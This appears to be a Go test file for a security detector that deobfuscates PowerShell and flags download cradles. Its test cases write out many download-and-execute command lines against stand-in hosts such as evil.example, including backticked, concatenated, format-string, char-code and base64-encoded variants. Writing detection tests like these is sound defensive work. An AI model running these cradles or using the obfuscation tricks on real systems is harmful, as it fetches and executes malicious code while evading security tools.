@@ -0,0 +1,279 @@
+package main
+
+import (
+	"encoding/base64"
+	"encoding/binary"
+	"strings"
+	"testing"
+	"unicode/utf16"
+)
+
+// encodedCommand returns a powershell.exe command line running script
+// through -EncodedCommand
+func encodedCommand(script string) string {
+	units := utf16.Encode([]rune(script))
+	raw := make([]byte, 2*len(units))
+	for i, unit := range units {
+		binary.LittleEndian.PutUint16(raw[2*i:], unit)
+	}
+	return "powershell.exe -NoP -NonI -W Hidden -Enc " + base64.StdEncoding.EncodeToString(raw)
+}
+
+func TestDeobfuscatePowerShell(t *testing.T) {
+	tests := []struct {
+		name   string
+		script string
+		folded string
+	}{
+		{"backticks", "I`E`X (N`ew-Obj`ect Net.WebClient)", `IEX (New-Object Net.WebClient)`},
+		{"concatenation", `'Down'+'load' + 'String'`, `'DownloadString'`},
+		{"double-quoted concatenation", `("Net"+".WebClient")`, `'Net.WebClient'`},
+		{"doubled quotes", `'it''s'+' here'`, `'it''s here'`},
+		{"format operator", `('{1}{0}' -f 'String','Download')`, `'DownloadString'`},
+		{"format item without argument", `('{0}{2}' -f 'a','b')`, `'a{2}'`},
+		{"char casts", `[char]73+[char](0x45)+[CHAR] 88`, `'IEX'`},
+		{"char casts in parentheses", `&([char]73+[char]69+[char]88) $x`, `&'IEX' $x`},
+		{"char array join", `-join [char[]](73, 69, 0x58)`, `'IEX'`},
+		{"join suffix", `('http://evil','example/a') -join '.'`, `'http://evil.example/a'`},
+		{"quoted member", `$wc.('Download'+'String')('http://x')`, `$wc.DownloadString('http://x')`},
+		{"call argument kept", `$wc.DownloadString('http://x')`, `$wc.DownloadString('http://x')`},
+		{"member that is no name", `$h.('a b')`, `$h.'a b'`},
+		{"variables are not folded", `"$env:TEMP" + '\a.exe'`, `"$env:TEMP" + '\a.exe'`},
+		{"invalid char code", `[char]0 + [char]99999999`, `[char]0 + [char]99999999`},
+		{"layers", `&((-join [char[]](105,101,120)))`, `&'iex'`},
+	}
+	for _, tt := range tests {
+		if got := deobfuscatePowerShell(tt.script); got != tt.folded {
+			t.Errorf("%s: deobfuscatePowerShell(%s) = %s, want %s", tt.name, tt.script, got, tt.folded)
+		}
+	}
+}
+
+func TestDeobfuscatePowerShellBounds(t *testing.T) {
+	// One layer of parentheses comes off per pass
+	nested := strings.Repeat("(", 20) + "'a'" + strings.Repeat(")", 20)
+	left := 20 - maxDeobfuscatePasses
+	if got, want := deobfuscatePowerShell(nested), strings.Repeat("(", left)+"'a'"+strings.Repeat(")", left); got != want {
+		t.Errorf("nested literal folded to %s, want %s", got, want)
+	}
+
+	if got := deobfuscatePowerShell(strings.Repeat("'a'+", maxDeobfuscateInput)); len(got) > maxDeobfuscateInput {
+		t.Errorf("long script folded to %d bytes", len(got))
+	}
+	// Format strings grow the script; a pass growing it past the cap is dropped
+	growing := strings.Repeat(`('{0}{0}{0}{0}{0}{0}{0}{0}' -f 'xxxxxxxxxxxxxxxx');`, maxDeobfuscateInput/60)
+	if got := deobfuscatePowerShell(growing); len(got) > maxDeobfuscateInput {
+		t.Errorf("growing script folded to %d bytes", len(got))
+	}
+}
+
+func TestCheckPowerShellCradle(t *testing.T) {
+	tests := []struct {
+		name       string
+		cmdLine    string
+		kind       string
+		url        string
+		form       string
+		executes   bool
+		obfuscated bool
+	}{
+		// Plain cradles
+		{"WebClient DownloadString",
+			`powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"`,
+			"webclient.downloadstring", "http://evil.example/a.ps1",
+			`powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"`, true, false},
+		{"WebClient DownloadFile",
+			`powershell.exe -c (New-Object System.Net.WebClient).DownloadFile('https://evil.example/a.exe','C:\Users\Public\a.exe')`,
+			"webclient.downloadfile", "https://evil.example/a.exe",
+			`powershell.exe -c (New-Object System.Net.WebClient).DownloadFile('https://evil.example/a.exe','C:\Users\Public\a.exe')`, false, false},
+		{"WebClient DownloadData into Assembly.Load",
+			`powershell.exe -c [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://evil.example/t.dll'))`,
+			"webclient.downloaddata", "http://evil.example/t.dll",
+			`powershell.exe -c [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://evil.example/t.dll'))`, false, false},
+		{"WebClient DownloadStringAsync",
+			`powershell.exe -c "(New-Object Net.WebClient).DownloadStringAsync('http://evil.example/x.ps1')"`,
+			"webclient.downloadstringasync", "http://evil.example/x.ps1",
+			`powershell.exe -c "(New-Object Net.WebClient).DownloadStringAsync('http://evil.example/x.ps1')"`, false, false},
+		{"WebClient OpenRead",
+			`powershell.exe -c "$s=(New-Object Net.WebClient).OpenRead('http://evil.example/o.bin')"`,
+			"webclient.openread", "http://evil.example/o.bin",
+			`powershell.exe -c "$s=(New-Object Net.WebClient).OpenRead('http://evil.example/o.bin')"`, false, false},
+		{"IP address and port",
+			`powershell.exe -w hidden -c "IEX ((New-Object Net.WebClient).DownloadString('http://192.0.2.7:8080/z'))"`,
+			"webclient.downloadstring", "http://192.0.2.7:8080/z",
+			`powershell.exe -w hidden -c "IEX ((New-Object Net.WebClient).DownloadString('http://192.0.2.7:8080/z'))"`, true, false},
+		{"URL in a variable",
+			`powershell.exe -c "$u='http://evil.example/v.ps1';IEX (New-Object Net.WebClient).DownloadString($u)"`,
+			"webclient.downloadstring", "",
+			`IEX (New-Object Net.WebClient).DownloadString($u)"`, true, false},
+		{"ScriptBlock Create",
+			`powershell.exe -c "[ScriptBlock]::Create((New-Object Net.WebClient).DownloadString('http://evil.example/u.ps1')).Invoke()"`,
+			"webclient.downloadstring", "http://evil.example/u.ps1",
+			`powershell.exe -c "[ScriptBlock]::Create((New-Object Net.WebClient).DownloadString('http://evil.example/u.ps1')).Invoke()"`, true, false},
+		{"iwr piped to iex",
+			`powershell.exe -c "iwr -useb https://evil.example/m.ps1 | iex"`,
+			"invoke-webrequest", "https://evil.example/m.ps1",
+			`powershell.exe -c "iwr -useb https://evil.example/m.ps1 | iex"`, true, false},
+		{"irm piped to iex",
+			`powershell.exe -c "irm https://evil.example/n.ps1 | iex"`,
+			"invoke-webrequest", "https://evil.example/n.ps1",
+			`powershell.exe -c "irm https://evil.example/n.ps1 | iex"`, true, false},
+		{"Invoke-WebRequest OutFile",
+			`powershell.exe -c Invoke-WebRequest -Uri http://evil.example/o.exe -OutFile $env:TEMP\o.exe`,
+			"invoke-webrequest", "http://evil.example/o.exe",
+			`powershell.exe -c Invoke-WebRequest -Uri http://evil.example/o.exe -OutFile $env:TEMP\o.exe`, false, false},
+		{"wget alias",
+			`powershell.exe -c wget http://evil.example/y.ps1 -OutFile y.ps1`,
+			"invoke-webrequest", "http://evil.example/y.ps1",
+			`powershell.exe -c wget http://evil.example/y.ps1 -OutFile y.ps1`, false, false},
+		{"Start-BitsTransfer",
+			`powershell.exe -c Start-BitsTransfer -Source http://evil.example/p.exe -Destination C:\Users\Public\p.exe`,
+			"start-bitstransfer", "http://evil.example/p.exe",
+			`powershell.exe -c Start-BitsTransfer -Source http://evil.example/p.exe -Destination C:\Users\Public\p.exe`, false, false},
+		{"Msxml2.XMLHTTP",
+			`powershell.exe -c "$h=New-Object -ComObject Msxml2.XMLHTTP;$h.open('GET','http://evil.example/q.ps1',$false);$h.send();iex $h.responseText"`,
+			"xmlhttp", "http://evil.example/q.ps1",
+			`$h.open('GET','http://evil.example/q.ps1',$false)`, true, false},
+		{"WebRequest Create",
+			`powershell.exe -c "$r=[System.Net.WebRequest]::Create('http://evil.example/r.ps1');$s=$r.GetResponse().GetResponseStream();iex ([IO.StreamReader]::new($s)).ReadToEnd()"`,
+			"webrequest", "http://evil.example/r.ps1",
+			`powershell.exe -c "$r=[System.Net.WebRequest]::Create('http://evil.example/r.ps1')`, true, false},
+		{"HttpClient GetStringAsync",
+			`powershell.exe -c "$c=New-Object System.Net.Http.HttpClient;iex $c.GetStringAsync('http://evil.example/s.ps1').Result"`,
+			"httpclient", "http://evil.example/s.ps1",
+			`iex $c.GetStringAsync('http://evil.example/s.ps1').Result"`, true, false},
+
+		// Obfuscated command lines
+		{"backticked method",
+			"powershell.exe -nop -c \"IEX (New-Object Net.WebClient).`D`o`w`n`l`o`a`d`S`t`r`i`n`g('http://evil.example/b.ps1')\"",
+			"webclient.downloadstring", "http://evil.example/b.ps1",
+			`powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/b.ps1')"`, true, true},
+		{"backticked cmdlet and type",
+			"powershell.exe -c \"I`E`X (N`ew-Obj`ect Ne`t.We`bCli`ent).Downl`oadStr`ing('http://evil.example/c.ps1')\"",
+			"webclient.downloadstring", "http://evil.example/c.ps1",
+			`powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/c.ps1')"`, true, true},
+		{"concatenated method name",
+			`powershell.exe -c "IEX (New-Object Net.WebClient).('Down'+'loadString').Invoke('http://evil.example/d.ps1')"`,
+			"webclient.downloadstring", "http://evil.example/d.ps1",
+			`powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString.Invoke('http://evil.example/d.ps1')"`, true, true},
+		{"concatenated URL",
+			`powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('http://evil'+'.example/e'+'.ps1')"`,
+			"webclient.downloadstring", "http://evil.example/e.ps1",
+			`powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/e.ps1')"`, true, true},
+		{"concatenated type name",
+			`powershell.exe -c "$wc = New-Object ('Net.'+'WebClient'); IEX $wc.DownloadString('http://evil.example/f.ps1')"`,
+			"webclient.downloadstring", "http://evil.example/f.ps1",
+			`IEX $wc.DownloadString('http://evil.example/f.ps1')"`, true, true},
+		{"formatted method name",
+			`powershell.exe -c "IEX (New-Object Net.WebClient).('{1}{0}' -f 'String','Download').Invoke('http://evil.example/g.ps1')"`,
+			"webclient.downloadstring", "http://evil.example/g.ps1",
+			`powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString.Invoke('http://evil.example/g.ps1')"`, true, true},
+		{"formatted URL",
+			`powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString(('{0}://{1}/{2}' -f 'http','evil.example','h.ps1'))"`,
+			"webclient.downloadstring", "http://evil.example/h.ps1",
+			`powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/h.ps1')"`, true, true},
+		{"IEX from char codes",
+			`powershell.exe -c "&([char]73+[char]69+[char]88) ((New-Object Net.WebClient).DownloadString('http://evil.example/i.ps1'))"`,
+			"webclient.downloadstring", "http://evil.example/i.ps1",
+			`powershell.exe -c "&'IEX' ((New-Object Net.WebClient).DownloadString('http://evil.example/i.ps1'))"`, true, true},
+		{"IEX from a joined char array",
+			`powershell.exe -c "&(-join [char[]](73,69,88)) ((New-Object Net.WebClient).DownloadString('http://evil.example/j.ps1'))"`,
+			"webclient.downloadstring", "http://evil.example/j.ps1",
+			`powershell.exe -c "&'IEX' ((New-Object Net.WebClient).DownloadString('http://evil.example/j.ps1'))"`, true, true},
+		{"URL joined with -join",
+			`powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString((('http://evil','example/k.ps1') -join '.'))"`,
+			"webclient.downloadstring", "http://evil.example/k.ps1",
+			`powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/k.ps1')"`, true, true},
+		{"iwr from hex char codes",
+			`powershell.exe -c "&([char]0x69+[char]0x77+[char]0x72) http://evil.example/l.ps1 -UseBasicParsing | IEX"`,
+			"invoke-webrequest", "http://evil.example/l.ps1",
+			`powershell.exe -c "&'iwr' http://evil.example/l.ps1 -UseBasicParsing | IEX"`, true, true},
+		{"everything at once",
+			"powershell.exe -c \"&('{0}{1}' -f 'I','EX') (N`ew-Object ('Net'+'.WebClient')).('Down'+'load'+'String')(('ht'+'tp://evil'+'.example/w.ps1'))\"",
+			"webclient.downloadstring", "http://evil.example/w.ps1",
+			`powershell.exe -c "&'IEX' (New-Object 'Net.WebClient').DownloadString('http://evil.example/w.ps1')"`, true, true},
+
+		// Encoded commands
+		{"encoded WebClient",
+			encodedCommand(`IEX (New-Object Net.WebClient).DownloadString('http://evil.example/enc1.ps1')`),
+			"webclient.downloadstring", "http://evil.example/enc1.ps1",
+			`IEX (New-Object Net.WebClient).DownloadString('http://evil.example/enc1.ps1')`, true, false},
+		{"encoded double-quoted concatenation",
+			encodedCommand("$wc = New-Object (\"Net\"+\".WebClient\")\nIEX $wc.(\"Download\"+\"String\").Invoke(\"http://evil.example/enc2.ps1\")"),
+			"webclient.downloadstring", "http://evil.example/enc2.ps1",
+			`IEX $wc.DownloadString.Invoke("http://evil.example/enc2.ps1")`, true, true},
+		{"encoded char array join",
+			encodedCommand("$x = [char[]](0x49,0x45,0x58) -join ''\n& $x ((New-Object Net.WebClient).DownloadString('http://evil.example/enc3.ps1'))"),
+			"webclient.downloadstring", "http://evil.example/enc3.ps1",
+			`& $x ((New-Object Net.WebClient).DownloadString('http://evil.example/enc3.ps1'))`, true, true},
+		{"encoded backticked Invoke-WebRequest",
+			encodedCommand("I`nv`oke-Ex`pression (I`nvoke-W`ebRequest -Uri 'https://evil.example/enc4.ps1' -UseBasicParsing).Content"),
+			"invoke-webrequest", "https://evil.example/enc4.ps1",
+			`Invoke-Expression (Invoke-WebRequest -Uri 'https://evil.example/enc4.ps1' -UseBasicParsing).Content`, true, true},
+		{"encoded formatted BITS source",
+			encodedCommand(`Start-BitsTransfer -Source ('{0}/{1}' -f 'https://evil.example','enc5.exe') -Destination $env:TEMP\enc5.exe`),
+			"start-bitstransfer", "https://evil.example/enc5.exe",
+			`Start-BitsTransfer -Source 'https://evil.example/enc5.exe' -Destination $env:TEMP\enc5.exe`, false, true},
+		{"encoded HttpClient",
+			encodedCommand("$c = New-Object System.Net.Http.HttpClient\n$b = $c.GetByteArrayAsync('https://evil.example/enc6.bin').Result\n[IO.File]::WriteAllBytes(\"$env:TEMP\\enc6.exe\", $b)"),
+			"httpclient", "https://evil.example/enc6.bin",
+			`$b = $c.GetByteArrayAsync('https://evil.example/enc6.bin').Result`, false, false},
+		{"encoded format and concatenation",
+			encodedCommand(`IEX (New-Object ('{0}.{1}' -f 'Net','WebClient')).('Download'+'String')('http://evil.example/enc7.ps1')`),
+			"webclient.downloadstring", "http://evil.example/enc7.ps1",
+			`IEX (New-Object 'Net.WebClient').DownloadString('http://evil.example/enc7.ps1')`, true, true},
+
+		// Administration and scripts that look the part
+		{"searching a log for the method name", `powershell.exe -c "Get-Content C:\logs\app.log | Select-String 'DownloadString'"`, "", "", "", false, false},
+		{"setting a WebClient header", `powershell.exe -c "(New-Object Net.WebClient).Headers.Add('User-Agent','x')"`, "", "", "", false, false},
+		{"uploading", `powershell.exe -c "$wc = New-Object Net.WebClient; $wc.UploadString('http://collector.example/', 'x')"`, "", "", "", false, false},
+		{"DownloadString on something else", `powershell.exe -c "$x.DownloadString('http://intranet.example/page')"`, "", "", "", false, false},
+		{"help for a download cmdlet", `powershell.exe -c "Get-Help Invoke-WebRequest -Online"`, "", "", "", false, false},
+		{"URL before the cmdlet name", `powershell.exe -c "Write-Host 'see https://docs.example/help for wget usage'"`, "", "", "", false, false},
+		{"curl version", `powershell.exe -c "curl.exe --version"`, "", "", "", false, false},
+		{"BITS from a share", `powershell.exe -c "Start-BitsTransfer -Source \\fileserver\share\setup.msi -Destination C:\Temp"`, "", "", "", false, false},
+		{"formatted message", `powershell.exe -c "Write-Host ('{0} files' -f 'three')"`, "", "", "", false, false},
+		{"concatenated variable", `powershell.exe -c "$s = 'Down'+'load'; Write-Output $s"`, "", "", "", false, false},
+		{"char cast", `powershell.exe -c "[char]65"`, "", "", "", false, false},
+		{"joining names", `powershell.exe -c "(Get-Process).Name -join ','"`, "", "", "", false, false},
+		{"local Invoke-Expression", `powershell.exe -c "Invoke-Expression 'Get-Date'"`, "", "", "", false, false},
+		{"connection test", `powershell.exe -c "Test-NetConnection evil.example -Port 443"`, "", "", "", false, false},
+		{"script file", `powershell.exe -ExecutionPolicy Bypass -File C:\Scripts\Download-Updates.ps1`, "", "", "", false, false},
+		{"encoded inventory", encodedCommand(`Get-ChildItem C:\Users -Recurse | Measure-Object`), "", "", "", false, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			event := evaluate(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, tt.cmdLine)
+			var cradles []PowerShellCradle
+			if event.PowerShell != nil {
+				cradles = event.PowerShell.Cradles
+			}
+			if tt.kind == "" {
+				if len(cradles) > 0 || hasIndicator(event, "download_cradle", "") {
+					t.Fatalf("cradles found: %+v", cradles)
+				}
+				return
+			}
+			if len(cradles) != 1 {
+				t.Fatalf("cradles %+v, want one %s", cradles, tt.kind)
+			}
+			want := PowerShellCradle{Kind: tt.kind, Form: tt.form, URL: tt.url, Executes: tt.executes}
+			if cradles[0] != want {
+				t.Errorf("cradle = %+v\nwant %+v", cradles[0], want)
+			}
+			if obfuscated := event.PowerShell.Deobfuscated != ""; obfuscated != tt.obfuscated || strings.Contains(event.Reason, "hidden by string obfuscation") != tt.obfuscated {
+				t.Errorf("obfuscated %v, want %v (%s)", obfuscated, tt.obfuscated, event.Reason)
+			}
+			severity := SeverityMedium
+			if tt.executes {
+				severity = SeverityHigh
+			}
+			if !hasIndicator(event, "download_cradle", tt.kind) || event.Severity < severity {
+				t.Errorf("severity %v, indicators %+v, want a %s cradle at %v (%s)", event.Severity, event.Indicators, tt.kind, severity, event.Reason)
+			}
+			if tt.url != "" && !hasIOC(&event, tt.url) {
+				t.Errorf("IOCs %+v, want the URL", event.IOCs)
+			}
+		})
+	}
+}